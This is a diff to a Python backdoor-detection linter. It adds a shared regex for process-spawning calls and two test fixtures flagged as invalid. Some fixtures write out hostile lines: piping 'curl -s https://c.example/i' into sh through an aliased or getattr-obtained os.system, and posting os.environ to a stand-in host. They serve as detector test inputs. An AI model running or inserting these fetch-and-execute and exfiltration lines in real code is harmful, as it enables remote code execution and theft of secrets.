@@ -20,6 +20,7 @@ from backdoor_lint.checkers.py_dataflow import (
     ENVIRONMENT,
     EXFIL_KINDS,
     HOLE,
+    PROCESS_FUNCTION_NAMED,
     SECRET,
     SHELL_FUNCTIONS,
     SINKS,
@@ -42,7 +43,7 @@ HIDING_CALLS = DECODERS | {"chr", "reversed", "codecs.decode", "codecs.encode"}
 # for this checker (getattr/__import__ evasions still need the module: `__import__` is in here).
 # The sinks' modules are read from the imports (base.PythonChecker.TRIGGER_IMPORTS).
 TRIGGER_IMPORTS = frozenset(SINKS) | frozenset(SHELL_FUNCTIONS)
-TRIGGER = re.compile(rb"\b(?:system|popen|spawn[lv]p?e?|posix_spawn|execv?p?e?|execl)\s*\(|__import__|import_module")
+TRIGGER = re.compile(PROCESS_FUNCTION_NAMED.pattern + rb"|__import__|import_module")
 
 
 @lru_cache(maxsize=1)
@@ -566,6 +567,8 @@ class NetworkChecker(PythonChecker):
         Invalid('import os\ntry: import requests\nexcept ImportError: pass\n'
                 'requests.post("https://c.example/x", data=dict(os.environ))\n', "BDL402", 4),
         Invalid('from os import system as run_quietly\nrun_quietly("curl -s https://c.example/i | sh")\n', "BDL401", 2),
+        Invalid('import os\nrun = os.system\nrun("curl -s https://c.example/i | sh")\n', "BDL405", 3),
+        Invalid('import os\ngetattr(os, "system")("curl -s https://c.example/i | sh")\n', "BDL405", 2),
         Invalid('import urllib.request as u\nclass C:\n    DATA = u.urlopen("https://cfg.example/c").read()\n',
                 "BDL401", 3),
         Invalid('import requests\ndef log(f):\n    return f\n@log(requests.get("https://x.example"))\ndef g(): ...\n',
